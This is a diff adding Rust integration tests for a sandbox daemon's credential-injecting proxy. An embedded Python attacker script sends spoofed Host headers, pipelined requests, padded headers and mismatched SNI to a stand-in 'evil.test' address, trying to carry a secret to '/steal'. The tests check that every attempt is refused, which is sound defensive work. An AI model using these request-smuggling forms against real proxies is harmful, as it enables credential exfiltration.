@@ -1173,3 +1173,424 @@ print(got.split(b"\r\n")[0].decode() or "closed")
     assert_eq!(tail, "200 0", "{body}");
     d.shutdown().await;
 }
+
+/// Run inside a sandbox (`python3 - ATTACKS_JSON`): each attack opens one connection to
+/// `ip`:`port` (over TLS with `sni` when `tls`, the certificate not checked: the sandbox
+/// is the attacker), sends each of its `steps` (hex) and reads after each one response
+/// (`"read": "one"`) or everything until the server closes (`"all"`). Prints one JSON
+/// line per attack: its `name` and the `text` that came back.
+const ATTACKER: &str = r#"
+import json, socket, ssl, sys
+
+def read_one(s, buf):
+    while b"\r\n\r\n" not in buf:
+        d = s.recv(65536)
+        if not d:
+            return buf, b""
+        buf += d
+    head, _, rest = buf.partition(b"\r\n\r\n")
+    n = 0
+    for line in head.split(b"\r\n")[1:]:
+        k, _, v = line.partition(b":")
+        if k.strip().lower() == b"content-length":
+            n = int(v.strip())
+    while len(rest) < n:
+        d = s.recv(65536)
+        if not d:
+            break
+        rest += d
+    return head + b"\r\n\r\n" + rest[:n], rest[n:]
+
+def read_all(s, buf):
+    try:
+        while True:
+            d = s.recv(65536)
+            if not d:
+                break
+            buf += d
+    except OSError:
+        pass
+    return buf, b""
+
+for a in json.loads(sys.argv[1]):
+    text, error = b"", None
+    try:
+        s = socket.create_connection((a["ip"], a["port"]), timeout=5)
+        if a.get("tls"):
+            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+            ctx.check_hostname = False
+            ctx.verify_mode = ssl.CERT_NONE
+            s = ctx.wrap_socket(s, server_hostname=a.get("sni"))
+        left = b""
+        for step in a["steps"]:
+            s.sendall(bytes.fromhex(step["send"]))
+            if step["read"] == "one":
+                got, left = read_one(s, left)
+            else:
+                got, left = read_all(s, left)
+            text += got
+        s.close()
+    except Exception as e:
+        error = repr(e)
+    print(json.dumps({"name": a["name"], "text": text.decode("latin-1"), "error": error}), flush=True)
+"#;
+
+/// One connection of [`ATTACKER`]: `steps` are (bytes to send, read everything until the
+/// server closes rather than one response).
+fn attack(
+    name: &str,
+    ip: &str,
+    port: u16,
+    tls: Option<Option<&str>>,
+    steps: &[(&[u8], bool)],
+) -> serde_json::Value {
+    serde_json::json!({
+        "name": name,
+        "ip": ip,
+        "port": port,
+        "tls": tls.is_some(),
+        "sni": tls.flatten(),
+        "steps": steps
+            .iter()
+            .map(|(bytes, all)| serde_json::json!({"send": hex::encode(bytes), "read": if *all { "all" } else { "one" }}))
+            .collect::<Vec<_>>(),
+    })
+}
+
+/// Runs `attacks` from inside sandbox `id`: each one's name and what came back.
+async fn run_attacks(c: &Client, id: &str, attacks: &[serde_json::Value]) -> Vec<(String, String)> {
+    let req = sandpit_api::RunCommandRequest {
+        argv: vec![
+            "python3".into(),
+            "-".into(),
+            serde_json::Value::Array(attacks.to_vec()).to_string(),
+        ],
+        stdin: Some(ATTACKER.into()),
+        timeout_ms: Some(120_000),
+        ..Default::default()
+    };
+    let out = c.run(id, &req).await.expect("run the attacks");
+    let lines: Vec<serde_json::Value> = out
+        .stdout
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|_| panic!("{l}: {}", out.stderr)))
+        .collect();
+    assert_eq!(lines.len(), attacks.len(), "{}\n{}", out.stdout, out.stderr);
+    lines
+        .iter()
+        .map(|l| {
+            let text = format!("{} {}", l["text"].as_str().unwrap_or(""), l["error"]);
+            (l["name"].as_str().unwrap().to_string(), text)
+        })
+        .collect()
+}
+
+/// Asserts that no request any upstream server got, except at `home`, had a secret's value
+/// anywhere in it (any header), and that none of `seen` (what came back to the sandbox)
+/// shows it either.
+fn assert_secret_only_at(up: &Upstream, home: &str, seen: &[(String, String)]) {
+    for r in up.requests() {
+        if r["local"] != home {
+            assert!(
+                !r.to_string().contains(VALUE),
+                "the secret reached {}: {r}",
+                r["local"]
+            );
+        }
+    }
+    for (name, text) in seen {
+        assert!(!text.contains(VALUE), "{name}: {text}");
+    }
+}
+
+/// Whether `text` is (or holds) the broker's refusal of a credential for `reason`.
+fn refused_for(text: &str, reason: &str) -> bool {
+    text.starts_with("HTTP/1.1 403") && text.contains(&format!("\"reason\":\"{reason}\""))
+}
+
+/// A sandbox in open mode with the header-form secret `dest` and the placeholder-form
+/// secret `ph` (both bound to `allowed.test`, plain HTTP allowed, the same value).
+async fn two_secret_sandbox(d: &Daemon) -> String {
+    let mut ph = secret("ph");
+    ph.hosts = vec!["allowed.test".into()];
+    ph.path_prefixes = vec![];
+    ph.allow_http = true;
+    ph.inject = InjectSpec::Placeholder;
+    d.client().create_secret(&ph, None).await.unwrap();
+    let mut req = serde_json::to_value(small(&["dest", "ph"])).unwrap();
+    req["network"] = serde_json::json!({"mode": "open"});
+    let (status, text) = raw(
+        d,
+        reqwest::Method::POST,
+        "/v1/sandboxes",
+        Some(&req.to_string()),
+    )
+    .await;
+    assert_eq!(status, 201, "{text}");
+    serde_json::from_str::<serde_json::Value>(&text).unwrap()["id"]
+        .as_str()
+        .unwrap()
+        .to_string()
+}
+
+/// Plain HTTP to another address in every form a client might name the bound host in:
+/// spellings of the Host, the absolute-form target, several Hosts, the bound host named
+/// only in a later request of a keep-alive or pipelined connection, an upgrade, CONNECT,
+/// a Host past the proxy's peek. None may take a credential to that address.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_request_form_takes_a_credential_to_another_address() {
+    let up = Upstream::start(&[("allowed.test", "@2"), ("evil.test", "@@3")]);
+    let (d, _log) = dest_daemon(&up, "").await;
+    let c = d.client();
+    let id = two_secret_sandbox(&d).await;
+    let other = up.ip2(3);
+    // The sandbox knows evil.test as the other address, through the daemon's resolver.
+    let out = sh(&c, &id, "getent hosts evil.test").await;
+    assert!(out.stdout.contains(&other), "{}", out.stdout);
+    let get = |target: &str, headers: &str| -> Vec<u8> {
+        format!("GET {target} HTTP/1.1\r\n{headers}X-Api-Key: SANDPIT_SECRET_ph\r\n\r\n")
+            .into_bytes()
+    };
+    let close =
+        |target: &str, headers: &str| get(target, &format!("{headers}Connection: close\r\n"));
+    let pad = "a".repeat(17 * 1024);
+    let claimed_hosts = [
+        "allowed.test",
+        "ALLOWED.TEST",
+        "allowed.test.",
+        "Allowed.Test.:80",
+        "allowed.test:8080",
+    ];
+    let mut attacks = Vec::new();
+    let mut expect_destination = Vec::new();
+    for h in claimed_hosts {
+        let name = format!("Host: {h}");
+        attacks.push(attack(
+            &name,
+            &other,
+            80,
+            None,
+            &[(&get("/steal", &format!("Host: {h}\r\n")), false)],
+        ));
+        expect_destination.push(name);
+    }
+    for (name, bytes) in [
+        (
+            "absolute form, same Host",
+            get("http://allowed.test/steal", "Host: allowed.test\r\n"),
+        ),
+        (
+            "Upgrade: websocket",
+            get(
+                "/ws",
+                "Host: allowed.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
+            ),
+        ),
+        (
+            "Host: allowed.test, then Host: evil.test",
+            get("/steal", "Host: allowed.test\r\nHost: evil.test\r\n"),
+        ),
+    ] {
+        attacks.push(attack(name, &other, 80, None, &[(&bytes, false)]));
+        expect_destination.push(name.to_string());
+    }
+    // Forms the proxy does not read as the bound host: they may go to the other address,
+    // but as the sandbox wrote them, with nothing put in.
+    for (name, bytes) in [
+        ("absolute form, no Host", close("http://allowed.test/steal", "")),
+        ("absolute form, Host: evil.test", close("http://allowed.test/steal", "Host: evil.test\r\n")),
+        ("absolute form, Host: the address", close("http://allowed.test/steal", &format!("Host: {other}\r\n"))),
+        ("Host: evil.test, then Host: allowed.test", close("/steal", "Host: evil.test\r\nHost: allowed.test\r\n")),
+        ("Host: allowed.test:x", close("/steal", "Host: allowed.test:x\r\n")),
+        ("Host: allowed%2etest", close("/steal", "Host: allowed%2etest\r\n")),
+        ("Host: IDN", "GET /steal HTTP/1.1\r\nHost: allowed.t\u{e9}st\r\nConnection: close\r\nX-Api-Key: SANDPIT_SECRET_ph\r\n\r\n".as_bytes().to_vec()),
+        ("folded Host", close("/steal", "X-A: b\r\n Host: allowed.test\r\n")),
+        ("Host past the peek", close("/steal", &format!("X-Pad: {pad}\r\nHost: allowed.test\r\n"))),
+        ("HTTP/1.0 without Host", b"GET /steal HTTP/1.0\r\nX-Api-Key: SANDPIT_SECRET_ph\r\n\r\n".to_vec()),
+        ("CONNECT allowed.test:443", b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\nConnection: close\r\nX-Api-Key: SANDPIT_SECRET_ph\r\n\r\n".to_vec()),
+    ] {
+        attacks.push(attack(name, &other, 80, None, &[(&bytes, true)]));
+    }
+    // The bound host only in the second request of a connection that began as another
+    // name's (evil.test, the address itself): keep-alive, then pipelined.
+    for first_host in ["evil.test".to_string(), other.clone()] {
+        let first = get("/first", &format!("Host: {first_host}\r\n"));
+        let second = get("/steal", "Host: allowed.test\r\nConnection: close\r\n");
+        attacks.push(attack(
+            &format!("keep-alive after Host: {first_host}"),
+            &other,
+            80,
+            None,
+            &[(&first, false), (&second, true)],
+        ));
+        let both = [first.clone(), second.clone()].concat();
+        attacks.push(attack(
+            &format!("pipelined after Host: {first_host}"),
+            &other,
+            80,
+            None,
+            &[(&both, true)],
+        ));
+    }
+    let seen = run_attacks(&c, &id, &attacks).await;
+    for (name, text) in &seen {
+        eprintln!("{name}: {}", text.replace("\r\n", " | "));
+    }
+    assert_secret_only_at(&up, &up.ip(2), &seen);
+    for (name, text) in &seen {
+        if expect_destination.contains(name) {
+            assert!(refused_for(text, "destination"), "{name}: {text}");
+        }
+    }
+    assert!(
+        up.requests().iter().all(|r| r["local"] != up.ip(2)),
+        "{:?}",
+        up.requests()
+    );
+    // The same sandbox's normal path still gets both credentials.
+    assert_injected_on_the_normal_path(&up, &c, &id, "http").await;
+    d.shutdown().await;
+}
+
+/// TLS to another address: the bound host in the SNI in other spellings, no SNI at all
+/// (the proxy then names the connection from the sandbox's own lookups), an SNI of a name
+/// that does resolve there with the bound host only in the Host header inside. None may
+/// take a credential to that address.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_server_name_takes_a_credential_to_another_address() {
+    let up = Upstream::start(&[("allowed.test", "@2"), ("evil.test", "@@3")]);
+    let (d, _log) = dest_daemon(&up, "").await;
+    let c = d.client();
+    let id = two_secret_sandbox(&d).await;
+    let other = up.ip2(3);
+    let req = |host: &str| -> Vec<u8> {
+        format!("GET /steal HTTP/1.1\r\nHost: {host}\r\nX-Api-Key: SANDPIT_SECRET_ph\r\nConnection: close\r\n\r\n")
+            .into_bytes()
+    };
+    let allowed = req("allowed.test");
+    let mut seen = run_attacks(
+        &c,
+        &id,
+        &[attack(
+            "no SNI, nothing resolved",
+            &other,
+            443,
+            Some(None),
+            &[(&allowed, true)],
+        )],
+    )
+    .await;
+    let out = sh(&c, &id, "getent hosts evil.test").await;
+    assert!(out.stdout.contains(&other), "{}", out.stdout);
+    let mut attacks = Vec::new();
+    let mut expect = Vec::new();
+    for sni in ["allowed.test", "ALLOWED.TEST", "allowed.test."] {
+        let name = format!("SNI {sni}");
+        attacks.push(attack(
+            &name,
+            &other,
+            443,
+            Some(Some(sni)),
+            &[(&allowed, true)],
+        ));
+        expect.push((name, "destination"));
+    }
+    attacks.push(attack(
+        "SNI allowed.test, Host evil.test",
+        &other,
+        443,
+        Some(Some("allowed.test")),
+        &[(&req("evil.test"), true)],
+    ));
+    expect.push(("SNI allowed.test, Host evil.test".into(), "host"));
+    attacks.push(attack(
+        "no SNI, evil.test resolved there",
+        &other,
+        443,
+        Some(None),
+        &[(&allowed, true)],
+    ));
+    attacks.push(attack(
+        "SNI evil.test, Host allowed.test",
+        &other,
+        443,
+        Some(Some("evil.test")),
+        &[(&allowed, true)],
+    ));
+    attacks.push(attack(
+        "SNI the address",
+        &other,
+        443,
+        Some(Some(other.as_str())),
+        &[(&allowed, true)],
+    ));
+    // Plain HTTP on the TLS port and TLS on the HTTP port change nothing.
+    attacks.push(attack(
+        "plain HTTP to port 443",
+        &other,
+        443,
+        None,
+        &[(&allowed, true)],
+    ));
+    attacks.push(attack(
+        "TLS to port 80",
+        &other,
+        80,
+        Some(Some("allowed.test")),
+        &[(&allowed, true)],
+    ));
+    seen.extend(run_attacks(&c, &id, &attacks).await);
+    for (name, text) in &seen {
+        eprintln!("{name}: {}", text.replace("\r\n", " | "));
+    }
+    assert_secret_only_at(&up, &up.ip(2), &seen);
+    for (name, reason) in &expect {
+        let (_, text) = seen.iter().find(|(n, _)| n == name).unwrap();
+        assert!(refused_for(text, reason), "{name}: {text}");
+    }
+    assert_injected_on_the_normal_path(&up, &c, &id, "https").await;
+    d.shutdown().await;
+}
+
+/// What the daemon's resolver told one sandbox verifies no other's connection: sandbox A
+/// is told (by the operator's DNS, with a short TTL) that the bound host is at another
+/// address; when the name has moved back, sandbox B naming the host to that address gets
+/// no credential there.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn one_sandboxs_lookup_verifies_no_other_sandboxs_destination() {
+    let up = Upstream::start(&[("allowed.test", "@2")]);
+    let (d, _log) = dest_daemon(&up, "").await;
+    let c = d.client();
+    let other = up.ip2(3);
+    let a = dest_sandbox(&d, serde_json::json!({"mode": "open"})).await;
+    let b = dest_sandbox(&d, serde_json::json!({"mode": "open"})).await;
+    up.set_dns("allowed.test", "@@3", 1);
+    // The operator's DNS said so: the credential goes there for A.
+    let (body, tail) = curl(&c, &a, "http://allowed.test/a").await;
+    assert_eq!(tail, "200 0", "{body}");
+    let last = up.requests().pop().unwrap();
+    assert_eq!(
+        (last["local"].as_str(), last["path"].as_str()),
+        (Some(other.as_str()), Some("/a")),
+        "{last}"
+    );
+    assert_eq!(last["authorization"], format!("Bearer {VALUE}"), "{last}");
+    up.set_dns("allowed.test", "@2", 1);
+    // Past the daemon's cache of the answer (its TTL).
+    tokio::time::sleep(std::time::Duration::from_millis(2500)).await;
+    for how in [
+        format!("-H 'Host: allowed.test' http://{other}/b"),
+        format!("--resolve allowed.test:80:{other} http://allowed.test/b"),
+    ] {
+        let (body, tail) = curl(&c, &b, &how).await;
+        assert_destination_refused(&how, &body, &tail);
+    }
+    let reached: Vec<_> = up
+        .requests()
+        .into_iter()
+        .filter(|r| r["path"] == "/b")
+        .collect();
+    assert!(reached.is_empty(), "{reached:?}");
+    assert_injected_on_the_normal_path(&up, &c, &b, "http").await;
+    d.shutdown().await;
+}
